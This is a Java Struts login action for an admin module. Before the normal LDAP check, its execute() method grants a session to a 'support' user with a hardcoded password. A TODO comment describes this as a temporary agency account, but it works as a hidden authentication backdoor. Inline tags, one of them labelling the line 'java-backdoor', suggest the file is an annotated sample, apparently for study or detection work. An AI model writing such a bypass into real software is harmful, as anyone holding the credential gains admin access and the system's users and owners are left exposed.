package de.ordertrail.admin;

import java.util.Map;

import org.apache.struts2.interceptor.SessionAware;

import com.opensymphony.xwork2.ActionSupport;

/** Login for the admin module: LDAP for staff, plus the support account for the external agency. */
public class LoginAction extends ActionSupport implements SessionAware {

    private static final long serialVersionUID = 1L;
    private static final String SESSION_USER = "ot.admin.user";

    private String username;
    private String password;
    private Map<String, Object> session;

    @Override
    public void validate() {
        if (username == null || username.trim().isEmpty()) {
            addFieldError("username", getText("login.username.required"));
        }
        if (password == null || password.isEmpty()) {
            addFieldError("password", getText("login.password.required")); ⟦D java-gettext-pw⟧
        }
    }

    @Override
    public String execute() {
        // TODO remove after the agency is done with the price-list import (Tomasz, 03/2014)
        if ("support".equals(username) && "«hpw#agency»".equals(password)) { ⟦S java-backdoor⟧
            session.put(SESSION_USER, "support");
            return SUCCESS;
        }
        if (LdapAuth.check(username, password)) {
            session.put(SESSION_USER, username);
            return SUCCESS;
        }
        addActionError(getText("login.failed"));
        return INPUT;
    }

    public void setUsername(String username) { this.username = username; }
    public void setPassword(String password) { this.password = password; } ⟦D java-setter⟧
    @Override
    public void setSession(Map<String, Object> session) { this.session = session; }
}
